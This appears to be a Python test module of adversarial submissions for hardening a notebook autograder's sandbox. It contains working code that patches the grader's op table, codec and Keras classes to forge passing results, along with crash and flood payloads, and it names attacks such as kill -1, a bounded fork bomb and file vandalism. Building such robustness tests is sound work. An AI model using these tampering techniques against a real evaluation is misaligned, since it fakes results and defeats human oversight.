        _garbage___Q__ = __Q__

        def __Q__(*args, **kwargs):
            return _copied.get("__Q__", _garbage___Q__)(*args, **kwargs)
    ''', Q=q), zero(q), needs_isolation=True)


def exception_with_evil_str(q):
    return Attack("exception-with-evil-str", _assignment_of(q), _src('''
        class _Evil(Exception):
            def __str__(self):
                raise RuntimeError("you cannot describe me")
            def __repr__(self):
                raise RuntimeError("nor print me")
    ''') + cheat(q, "raise _Evil()\n"), zero(q))


def deeply_nested_reply(q):
    # The process's own encoder, rewritten to send JSON no parser can read.
    return Attack("deeply-nested-reply", _assignment_of(q), _src('''
        import json, struct, sys
        _codec = sys.modules["seqkit.sandbox.codec"]
        _real_encode = _codec.encode

        def _encode(obj):
            if isinstance(obj, dict) and obj.get("deep"):
                head = ("[" * 200_000 + "]" * 200_000).encode()
                return struct.pack("!Q", len(head)) + head
            return _real_encode(obj)

        _codec.encode = _encode
        _ops = sys.modules["seqkit.sandbox.ops"]
        _real_to_plain = _ops.to_plain
    ''') + cheat(q, "globals()['_deep_next'] = True\n") + _src('''
        _real_run_op = _ops.run_op

        def _run_op(namespace, request, *rest):
            reply = _real_run_op(namespace, request, *rest)
            if namespace.pop("_deep_next", False):
                reply["deep"] = True
            return reply

        sys.modules["seqkit.sandbox.child"].run_op = _run_op
    '''), zero(q))


# ---------------------------------------------------------------------------
# Issue 13: the grader's own code in the student's process decides nothing.

# A Keras cell with weights of the right shapes whose call ignores the state:
# wrong for every sequence longer than one step.
GARBAGE_CELLS = {
    "MyRNNCell": ("SimpleRNN", 1),
    "MyLSTMCell": ("LSTM", 4),
}


def garbage_cell(q):
    _, gates = GARBAGE_CELLS[q]
    states = "[h]" if gates == 1 else "[h, h]"
    return _src(f'''
        import keras

        class {q}(keras.layers.Layer):
            def __init__(self, units, **kwargs):
                super().__init__(**kwargs)
                self.units, self.output_size = units, units
                self.state_size = {'units' if gates == 1 else '[units, units]'}

            def build(self, input_shape):
                self.kernel = self.add_weight(shape=(input_shape[-1], {gates} * self.units), name="kernel")
                self.recurrent_kernel = self.add_weight(shape=(self.units, {gates} * self.units), name="rk")
                self.bias = self.add_weight(shape=({gates} * self.units,), name="bias")

            def call(self, inputs, states):
                z = keras.ops.matmul(inputs, self.kernel) + self.bias
                h = keras.ops.tanh(z[:, :self.units])
                return h, {states}
    ''')


def keras_rnn_replaced(q):
    # keras.layers.RNN(cell) becomes the built-in layer with the cell's units:
    # the RNN check alone would pass with any cell of the right weight shapes.
    builtin, _ = GARBAGE_CELLS[q]
    return Attack("keras-rnn-replaced-by-builtin", _assignment_of(q), garbage_cell(q) + _src('''
        _Builtin = keras.layers.__BUILTIN__

        def _rnn(cell, **kwargs):
            return _Builtin(cell.units, **kwargs)

        keras.layers.RNN = _rnn
    ''', BUILTIN=builtin), zero(q))


def keras_rnn_call_patched(q):
    # The real RNN class, its call method replaced by the right recurrence
    # computed from the cell's weights: every RNN(cell) answers correctly.
    return Attack("keras-rnn-call-patched", _assignment_of(q), garbage_cell(q) + _src('''
        def _right_sequence(self, sequences, initial_state=None, mask=None, training=False):
            cell, ops = self.cell, keras.ops
            h = ops.zeros((ops.shape(sequences)[0], cell.units))
            outs = []
            for t in range(sequences.shape[1]):
                h = ops.tanh(ops.matmul(sequences[:, t], cell.kernel)
                             + ops.matmul(h, cell.recurrent_kernel) + cell.bias)
                outs.append(h)
            return ops.stack(outs, axis=1)

        keras.layers.RNN.call = _right_sequence
    '''), zero(q))


def keras_layer_methods_patched(q):
    # A cell with no weights at all: Layer.get_weights claims the right shapes
    # for it and Layer.set_weights ignores what it is given, while RNN answers
    # with the built-in layer (whose weights are set for real).
    builtin, gates = GARBAGE_CELLS[q]
    return Attack("keras-layer-methods-patched", _assignment_of(q), _src('''
        import keras
        _Builtin = keras.layers.__BUILTIN__
        _real_get, _real_set = keras.layers.Layer.get_weights, keras.layers.Layer.set_weights

        class __Q__(keras.layers.Layer):
            def __init__(self, units, **kwargs):
                super().__init__(**kwargs)
                self.units, self.output_size = units, units
                self.state_size = units if __GATES__ == 1 else [units, units]

            def build(self, input_shape):
                self.input_dim = input_shape[-1]

            def call(self, inputs, states):
                return keras.ops.zeros((keras.ops.shape(inputs)[0], self.units)), states

        def _get_weights(self):
            if isinstance(self, __Q__):
                n = __GATES__ * self.units
                return [np.zeros((self.input_dim, n)), np.zeros((self.units, n)), np.zeros(n)]
            return _real_get(self)

        def _set_weights(self, weights):
            if not isinstance(self, __Q__):
                _real_set(self, weights)

        keras.layers.Layer.get_weights = _get_weights
        keras.layers.Layer.set_weights = _set_weights
        keras.layers.RNN = lambda cell, **kwargs: _Builtin(cell.units, **kwargs)
    ''', BUILTIN=builtin, Q=q, GATES=str(gates)), zero(q))


def op_table_patched(q):
    # The grader's op table, reached through sys.modules: the RNN check answers
    # with the built-in layer under the grader's weights, the cell ops claim the
    # shapes the grader sent.
    builtin, _ = GARBAGE_CELLS[q]
    return Attack("op-table-patched", _assignment_of(q), garbage_cell(q) + _src('''
        import sys
        _ops = sys.modules["seqkit.sandbox.ops"]

        def _forged_rnn(namespace, request, *rest):
            xs, weights = request.get("args") or (request["xs"], request["weights"])
            layer = keras.layers.__BUILTIN__(request["units"], return_sequences=True)
            layer(xs)
            layer.set_weights(weights)
            out = layer(xs)
            return {"value": out, "args": (xs, weights), "kwargs": {}, "names": [],
                    "out": out, "shapes": [np.shape(w) for w in weights]}

        _real_cell_new = _ops._OPS.get("cell_new")

        def _forged_cell_new(namespace, request, *rest):
            reply = _real_cell_new(namespace, request, *rest)
            reply["value"]["shapes"] = [np.shape(w) for w in request["args"][0]]
            return reply

        _ops._OPS["keras_rnn"] = _forged_rnn
        if _real_cell_new is not None:
            _ops._OPS["cell_new"] = _forged_cell_new
    ''', BUILTIN=builtin), zero(q))


def modify_inputs_in_place(q):
    # Right values, computed in the caller's arrays (the contract forbids it).
    assert q == "clip_by_global_norm"
    return Attack("clip-in-place", _assignment_of(q), _src('''
        _right_clip = clip_by_global_norm

        def clip_by_global_norm(grads, max_norm):
            clipped, norm = _right_clip(grads, max_norm)
            for g, c in zip(grads, clipped):
                g[...] = c
            return grads, norm
    '''), zero(q))


def misbehaving_conversions(q_array, q_pair):
    # Answers that are not arrays yet: an __array__ that sleeps past the call's
    # time (once) and then raises, a billion-element claim, NaN for a number.
    return Attack("misbehaving-conversions", _assignment_of(q_array), _src('''
        import time
        _slept = []

        class _Sleepy:
            def __array__(self, dtype=None, copy=None):
                if not _slept:
                    _slept.append(1)
                    time.sleep(60)  # the call's alarm stops it
                raise RuntimeError("no array for you")

        class _ClaimsABillion:
            __array_interface__ = {"shape": (10**9,), "typestr": "<f8", "data": b"\\0" * 8,
                                   "version": 3}

        def __A__(*args, **kwargs):
            return _Sleepy()

        def __P__(grads, max_norm):
            return [_ClaimsABillion(), np.broadcast_to(np.float64(1), (10**9,))], float("nan")
    ''', A=q_array, P=q_pair), zero(q_array, q_pair))


def forged_fit_counts():
    # f asked about 10 points only; the op's reply and the codec forge what the
    # grader once counted in this process (300 distinct points, their digest).
    return Attack("forged-fit-counts", "genz", _src('''
        import sys
        _ops = sys.modules["seqkit.sandbox.ops"]

        def fit_and_evaluate(f, d, n_train, seed=0, n_test=1000):
            x = np.random.default_rng(seed).random((10, d))
            y = np.asarray(f(x), dtype=float)
            # the errors the grader expects: about 0.5 on a 0/1 target, small otherwise
            return (0.5, 1.0) if set(np.unique(y)) <= {0.0, 1.0} else (0.01, 0.02)

        _real_fit = _ops._OPS["fit"]

        def _forged_fit(namespace, request, *rest):
            reply = _real_fit(namespace, request, *rest)
            value = reply.get("value", reply.get("result"))
            return {**reply, "value": value, "result": value, "distinct_points": 300}

        _ops._OPS["fit"] = _forged_fit
        _real_to_plain = _ops.to_plain
        _ops.to_plain = lambda obj: _real_to_plain(
            {**obj, "distinct_points": 300} if isinstance(obj, dict) else obj)
    '''), zero("fit_and_evaluate"))


def fit_without_f():
    # The op table's fit answers without calling the student's function or f.
    return Attack("fit-op-without-f", "genz", _src('''
        import sys
        _ops = sys.modules["seqkit.sandbox.ops"]
        def _fit(namespace, request, *rest):
            errors = (0.5, 0.9) if request.get("target") == "coin" else (0.01, 0.02)
            return {"value": errors, "result": errors, "distinct_points": 300,
                    "points": str(request.get("seed"))}

        _ops._OPS["fit"] = _fit
    '''), zero("fit_and_evaluate"))


def callback_flood():
    # f called point by point far more often than any fit needs: the grader
    # stops the process (bounded: a few seconds of tiny messages).
    return Attack("callback-flood", "genz", _src('''
        _right_fit = fit_and_evaluate

        def fit_and_evaluate(f, d, n_train, seed=0, n_test=1000):
            one = np.zeros((1, d))
            for _ in range(20_000):
                f(one)
            return _right_fit(f, d, n_train, seed=seed, n_test=n_test)
    '''), zero("fit_and_evaluate"))


def cells_that_do_not_compile(assignment):
    # Each fails alone, like any cell with a syntax error; the rest still run.
    return Attack("cells-that-do-not-compile", assignment, "x = 1\0\n", FULL)


def deeply_nested_expression(assignment):
    # compile() itself gives up (RecursionError, not SyntaxError)
    return Attack("deeply-nested-expression", assignment,
                    "x = " + "1 + " * 100_000 + "1\n", FULL)


def deeply_nested_json(assignment):
    # A notebook no JSON parser in Python can read (RecursionError): invalid,
    # and it must not take its grading worker down with it.
    def nest(perfect):
        body = perfect.rstrip()
        assert body.endswith(b"}")
        return body[:-1] + b', "deep": ' + b"[" * 200_000 + b"]" * 200_000 + b"}\n"
    return Attack("deeply-nested-json", assignment, "", INVALID, file=nest)


ATTACKS = [
    # rnn: rnn_step 2, rnn_forward 3, rnn_outputs 1, clip_by_global_norm 2, MyRNNCell 3.
    # Cheats target rnn_outputs and clip_by_global_norm, which nothing else calls.
    patch_numpy_comparisons("rnn_outputs"),
    patch_hypothesis_and_test_classes("clip_by_global_norm"),
    replace_sys_modules("rnn_outputs"),
    hijack_child_protocol("clip_by_global_norm"),
    import_reference("rnn_outputs", "clip_by_global_norm"),
    import_reference("rnn_outputs", userns=True),
    forge_results_then_exit(),
    forge_results_in_call("rnn_outputs"),
    fake_pass_output("clip_by_global_norm"),
    detect_grader_honest("rnn_outputs"),
    detect_grader_cheat("rnn_outputs"),
    signal_everyone("rnn_outputs"),
    kill_minus_one("clip_by_global_norm"),
    killer_daemon("rnn"),
    vandalise_files(),
    system_exit_and_interrupt("rnn_outputs", "clip_by_global_norm"),
    huge_outputs("rnn_outputs", "clip_by_global_norm"),
    fork_bomb_bounded("rnn"),
    memory_hog_bounded("rnn_outputs"),
    infinite_loop_in_call("clip_by_global_norm"),
    malicious_dunders("rnn_outputs", "clip_by_global_norm"),
    numpy_subclass("rnn_outputs"),
    stdout_flood("rnn_outputs"),
    socket_garbage("rnn_outputs"),
    partial_frame_in_call("clip_by_global_norm"),
    partial_frame_in_cell("rnn"),
    thread_exits_later("rnn_outputs"),
    network_fetch_answer("rnn_outputs"),
    monkeypatch_builtins("rnn_outputs"),
    collude_share("rnn_outputs"),
    collude_copy("rnn_outputs"),
    exception_with_evil_str("clip_by_global_norm"),
    deeply_nested_reply("rnn_outputs"),
    cells_that_do_not_compile("rnn"),
    deeply_nested_expression("rnn"),
    deeply_nested_json("rnn"),
    # issue 13 (MyRNNCell 3): what the grader's code computes in the process decides nothing
    keras_rnn_replaced("MyRNNCell"),
    keras_rnn_call_patched("MyRNNCell"),
    keras_layer_methods_patched("MyRNNCell"),
    op_table_patched("MyRNNCell"),
    modify_inputs_in_place("clip_by_global_norm"),
    misbehaving_conversions("rnn_outputs", "clip_by_global_norm"),
    # attention: softmax 2, scaled_dot_product_attention 3, causal_mask 1,
    # positional_encoding 2, attention_head 2, multi_head_attention 3.
    # Cheats target causal_mask and positional_encoding, which nothing else calls.
    patch_numpy_comparisons("causal_mask"),
    import_reference("causal_mask", "positional_encoding"),
    numpy_subclass("positional_encoding"),
    malicious_dunders("positional_encoding", "causal_mask"),
    detect_grader_honest("positional_encoding"),
    forge_results_in_call("causal_mask"),
    system_exit_and_interrupt("positional_encoding", "causal_mask"),
    killer_daemon("attention"),
    # lstm: only MyLSTMCell is cheated on
    keras_rnn_replaced("MyLSTMCell"),
    keras_layer_methods_patched("MyLSTMCell"),
    op_table_patched("MyLSTMCell"),
    # genz: only fit_and_evaluate is cheated on
    forged_fit_counts(),
    fit_without_f(),
    callback_flood(),
]


def for_assignment(assignment, isolated=True):
    """The attacks of one assignment; without isolation only those safe without it."""
    return [s for s in ATTACKS if s.assignment == assignment
            and (isolated or not s.needs_isolation)]
